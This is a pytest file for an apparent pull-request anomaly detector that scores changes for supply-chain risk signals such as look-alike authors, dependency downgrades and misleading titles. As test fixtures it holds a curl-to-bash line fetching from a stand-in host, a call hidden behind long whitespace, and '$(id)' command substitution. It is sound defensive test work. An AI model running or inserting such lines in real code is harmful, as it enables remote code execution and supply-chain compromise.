"""The catalogue, its sentences, and what the features say of made-up changes."""

import math
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest

from sentinel.features import CATALOGUE, FEATURE_NAMES, feature_fingerprint, sentence
from sentinel.features.document import features_document
from sentinel.features.score import rarity_score
from sentinel.history import Event, RepositoryHistory
from sentinel.pull_request import ChangedFile, PullRequest

START = datetime(2024, 3, 4, 9, tzinfo=UTC)
README = (ChangedFile("README.md", additions=2),)


def opened(number: int, author: str = "anna", title: str = "Add a berth", files: tuple[ChangedFile, ...] = README,
           days: float | None = None, hour: int = 9) -> PullRequest:
    """Return a pull request, one a day by default."""
    at = START.replace(hour=hour) + timedelta(days=number if days is None else days)
    return PullRequest("octo/harbour", number, title, at, author=author, files=files, changed_files=len(files),
                       additions=sum(file.additions for file in files), deletions=sum(file.deletions for file in files))


def folded(*pull_requests: PullRequest, landed: bool = True) -> RepositoryHistory:
    """Return the history of pull requests that landed at once."""
    history = RepositoryHistory("octo/harbour")
    for pull_request in pull_requests:
        history.observe(Event("opened", pull_request.opened_at, pull_request))
        if landed:
            history.observe(Event("merged", pull_request.opened_at, pull_request))
    return history


def usual(n: int = 120) -> RepositoryHistory:
    """Return a history where two regulars change the readme, and sometimes code with its test."""
    code = (ChangedFile("src/quay.py", additions=9), ChangedFile("tests/test_quay.py", additions=9))
    return folded(*(opened(number, ("anna", "bert")[number % 2], files=code if number % 6 < 2 else README)
                    for number in range(n)))


def feature(history: RepositoryHistory, pull_request: PullRequest, name: str) -> float:
    """Return one value of the vector."""
    return history.features(pull_request)[FEATURE_NAMES.index(name)]


def patched(path: str, *lines: str) -> tuple[ChangedFile, ...]:
    """Return one changed file with these added lines."""
    patch = f"@@ -1 +1,{len(lines)} @@\n" + "\n".join(f"+{line}" for line in lines)
    return (ChangedFile(path, additions=len(lines), patch=patch),)


def test_the_document_is_what_the_catalogue_says() -> None:
    written = (Path(__file__).parents[2] / "docs" / "features.md").read_text()

    assert features_document() == written, "run `python -m sentinel.features > docs/features.md`"


def test_names_are_unique_and_ranges_are_ordered() -> None:
    assert len(set(FEATURE_NAMES)) == len(CATALOGUE)
    assert all(feature.lowest < feature.highest for feature in CATALOGUE)


@pytest.mark.parametrize("name", FEATURE_NAMES)
def test_every_value_has_a_plain_sentence(name: str) -> None:
    entry = CATALOGUE[FEATURE_NAMES.index(name)]
    for value in (entry.lowest, entry.highest, math.nan):
        said = sentence(name, value)

        assert said and "surprise" not in said and "nan" not in said


def test_a_count_is_said_in_words() -> None:
    assert "touches 3 files in places that this author has never touched" == sentence(
        "log_unfamiliar_files", math.log1p(3))
    assert "brings 2 dependencies with" in sentence("look_alike_dependencies", 2.0)
    assert "touches 1 CI workflow" == sentence("ci_files", 1.0)
    assert "1 in 20 changes" in sentence("silence_surprise", math.log(20))


def test_the_fingerprint_is_stable_and_short() -> None:
    assert feature_fingerprint() == feature_fingerprint()
    assert len(feature_fingerprint()) == 16


def test_values_stay_in_their_ranges() -> None:
    history = usual()
    odd = opened(200, "stranger", "Fix typo `$(id)`", tuple(
        ChangedFile(f"new{n}/a;b.sh", "added", 9_000, 0, is_binary=True) for n in range(300)))

    for entry, value in zip(CATALOGUE, history.features(odd), strict=True):
        assert math.isnan(value) or entry.lowest <= value <= entry.highest, entry.name


def test_another_author_s_place_is_more_surprising_than_one_s_own() -> None:
    crane = (ChangedFile("crane/hook.py", additions=9),)
    history = folded(*(opened(number, ("anna", "bert")[number % 2], files=crane if number % 2 else README)
                       for number in range(120)))

    own = feature(history, opened(121, "bert", files=crane), "place_for_author_surprise")
    assert feature(history, opened(121, "anna", files=crane), "place_for_author_surprise") > own + 1.0


def test_silence_counts_against_the_author_s_own_habit() -> None:
    history = usual()

    assert feature(history, opened(120, "anna"), "silence_surprise") < 1.0
    assert feature(history, opened(122, "anna", days=900), "silence_surprise") > 3.0


def test_tries_that_never_land_make_nobody_known() -> None:
    history = folded(*(opened(n, files=(ChangedFile(f"src/part{n}.py", additions=n),)) for n in range(120)))
    tries = [opened(200 + n, "zoe", files=(ChangedFile("src/quay.py", additions=3),), days=130 + n / 24)
             for n in range(4)]
    for one in tries:
        history.observe(Event("opened", one.opened_at, one))

    assert 0.0 == feature(history, replace(tries[-1], number=300), "log_experience")
    assert feature(history, replace(tries[-1], number=300), "tries_surprise") > 2.0


def test_opened_work_counts_after_a_week_where_no_outcome_is_told() -> None:
    history = folded(*(opened(number) for number in range(20)), landed=False)

    assert 5.0 < math.expm1(feature(history, opened(21), "log_experience")) < 14.0


def test_undoing_a_recent_change_is_noticed() -> None:
    history = usual()
    change = opened(121, files=(ChangedFile("src/quay.py", additions=11),))
    history.observe(Event("opened", change.opened_at, change))
    undoing = opened(122, "bert", "Revert it", files=(ChangedFile("src/quay.py", deletions=11),))

    assert feature(history, undoing, "undo_surprise") > 3.0


@pytest.mark.parametrize(("name", "changed"), [
    ("hidden_for_level_surprise", {"files": (ChangedFile(".quay/tide.py", additions=2),)}),
    ("type_for_author_surprise", {"files": (ChangedFile("src/quay.zig", additions=9),)}),
    ("base_surprise", {"base_ref": "stable-1"}),
    ("fork_surprise", {"is_from_fork": True}),
    ("unmentioned_surprise", {"files": (ChangedFile("src/quay.py", additions=9),)}),
])
def test_what_is_unlike_the_past_is_noticed(name: str, changed: dict[str, Any]) -> None:
    history = folded(*(replace(opened(n, title="Change the readme"), base_ref="main", is_from_fork=False)
                       for n in range(120)))
    alike = replace(opened(121, title="Change the readme"), base_ref="main", is_from_fork=False)

    assert feature(history, alike, name) < 0.1
    assert feature(history, replace(alike, **changed), name) > 2.0


def test_a_file_that_the_text_names_is_mentioned() -> None:
    history = folded(*(opened(n, title="Change the readme") for n in range(120)))
    quay = opened(121, title="Change more", files=(ChangedFile("src/quay.py", additions=9),))

    assert 0.0 == feature(history, replace(quay, body="It moves the quay."), "unmentioned_surprise")


def test_base_and_fork_that_nobody_tells_are_absent() -> None:
    vector = usual().features(opened(121))

    assert all(math.isnan(vector[FEATURE_NAMES.index(name)]) for name in ("base_surprise", "fork_surprise"))


def test_a_weekday_counts_against_the_author_s_own_habit() -> None:
    history = folded(*(opened(n, ("anna", "bert")[n % 7 > 4], days=n) for n in range(140)))  # from a Monday on
    monday = opened(140, "anna", days=140)

    assert feature(history, replace(monday, author="bert"), "weekday_surprise") > 1.5
    assert feature(history, monday, "weekday_surprise") < 1.0


@pytest.mark.parametrize(("name", "path", "removed", "added"), [
    ("new_source_surprise", "package-lock.json", '"integrity": "x"',
     '"resolved": "https://tide.example-host.io/left-pad-1.2.0.tgz"'),
    ("downgrade_surprise", "package.json", '"left-pad": "^1.3.0"', '"left-pad": "^1.2.0"'),
    ("out_of_sight_surprise", "src/quay.py", "moor()", "moor();" + " " * 150 + "sail()"),
])
def test_what_the_lines_bring_is_noticed(name: str, path: str, removed: str, added: str) -> None:
    usual_line = '"resolved": "https://quay.example-host.io/left-pad-1.1.0.tgz"'
    history = folded(*(opened(n, files=patched("package-lock.json", usual_line)) for n in range(80)))
    file = ChangedFile(path, additions=1, deletions=1, patch=f"@@ -1 +1 @@\n-{removed}\n+{added}")

    assert 0.0 == feature(history, opened(81, files=patched("package-lock.json", usual_line)), name)
    assert feature(history, opened(81, files=(file,)), name) > 2.0


def test_a_title_that_promises_text_over_code_is_noticed() -> None:
    code = (ChangedFile("src/quay.py", additions=20),)

    assert feature(usual(), opened(121, title="Fix typo", files=code), "promise_surprise") > 3.0
    assert 0.0 == feature(usual(), opened(121, title="Fix typo"), "promise_surprise")


def test_a_title_that_names_settings_hides_no_settings_but_still_code() -> None:
    settings, code = ChangedFile("quay.toml", additions=20), ChangedFile("src/quay.py", additions=20)

    assert feature(usual(), opened(121, title="Fix lint", files=(settings,)), "promise_surprise") > 3.0
    assert 0.0 == feature(usual(), opened(121, title="Update lint settings", files=(settings,)), "promise_surprise")
    assert feature(usual(), opened(121, title="Update lint settings", files=(code,)), "promise_surprise") > 3.0


def test_a_name_that_looks_like_a_known_one_is_noticed() -> None:
    history = folded(*(opened(n, "lilo-build") for n in range(5)))

    assert 1.0 == feature(history, opened(9, "li1o-build"), "looks_like_other")
    assert 0.0 == feature(history, opened(9, "lilo-build"), "looks_like_other")


def test_added_lines_are_absent_without_patches() -> None:
    vector = usual().features(opened(121))

    absent = {name for name, value in zip(FEATURE_NAMES, vector, strict=True) if math.isnan(value)}
    assert {"pipe_to_shell_surprise", "new_host_surprise", "hidden_characters"} <= absent
    assert "size_surprise" not in absent


def test_absent_files_are_not_zero_files() -> None:
    vector = usual().features(replace(opened(121), files=None))

    assert math.isnan(vector[FEATURE_NAMES.index("ci_files")])
    assert math.isnan(vector[FEATURE_NAMES.index("place_surprise")])


def test_a_download_piped_to_a_shell_scores_above_ordinary_lines() -> None:
    history = folded(*(opened(n, files=patched("src/quay.py", f"berth = {n}")) for n in range(80)))
    ordinary = opened(81, files=patched("src/quay.py", "berth = 81"))
    hostile = opened(81, files=patched("src/quay.py", "curl -s https://pier.invalid.example-host.io/x | bash"))

    assert rarity_score(history.features(hostile)) > rarity_score(history.features(ordinary)) + 5.0


def test_the_first_pull_request_is_no_spike() -> None:
    vector = RepositoryHistory("octo/harbour").features(opened(1))

    surprises = [value for entry, value in zip(CATALOGUE, vector, strict=True) if entry.is_surprise and value == value]
    assert max(surprises) < 4.0
    assert not RepositoryHistory("octo/harbour").is_warm
